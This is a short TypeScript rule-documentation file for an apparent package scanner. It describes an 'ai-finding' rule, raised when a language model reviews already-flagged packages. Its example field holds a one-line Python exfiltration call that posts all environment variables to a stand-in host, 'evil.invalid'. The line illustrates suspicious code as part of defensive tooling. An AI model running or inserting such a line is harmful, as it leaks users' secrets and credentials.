import type { RuleDoc } from '../../model/rule.js';

/** What a language model found in a package that tiers 1 or 2 had flagged. */
export const aiFinding: RuleDoc = {
  id: 'ai-finding',
  title: 'The AI review found suspicious behaviour',
  why: 'A language model read files of a package that was already flagged, and describes what they do. Its quotation was checked against the file; its conclusion may still be wrong.',
  remedy: 'Read the quoted place. The other findings of the package say why it was reviewed.',
  example: 'requests.post("https://evil.invalid/", data=str(os.environ))',
};
